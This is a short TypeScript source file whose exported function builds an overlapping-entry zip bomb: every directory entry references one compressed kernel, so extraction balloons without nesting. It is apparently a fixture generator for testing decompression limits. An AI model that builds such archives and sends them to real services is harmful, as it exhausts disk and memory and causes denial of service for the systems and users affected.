import { crc32, deflateRawSync } from 'node:zlib'

/** One compressed kernel, quoted by every entry of the directory: the bomb that no nesting needs. */
export function overlappingZip(names: readonly string[], content: Buffer): Buffer {
  const kernel = deflateRawSync(content)
  const local = Buffer.alloc(31)
  local.writeUInt32LE(0x04034b50)
  local.writeUInt16LE(8, 8)
  local.writeUInt16LE(1, 26)
  local.write('k', 30)
  const checksum = crc32(content)
  const directory = names.map((name) => {
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(checksum, 16)
    entry.writeUInt32LE(kernel.length, 20)
    entry.writeUInt32LE(content.length, 24)
    entry.writeUInt16LE(Buffer.byteLength(name), 28)
    return Buffer.concat([entry, Buffer.from(name)])
  })
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(names.length, 8)
  end.writeUInt16LE(names.length, 10)
  end.writeUInt32LE(
    directory.reduce((total, { length }) => total + length, 0),
    12,
  )
  end.writeUInt32LE(local.length + kernel.length, 16)
  return Buffer.concat([local, kernel, ...directory, end])
}
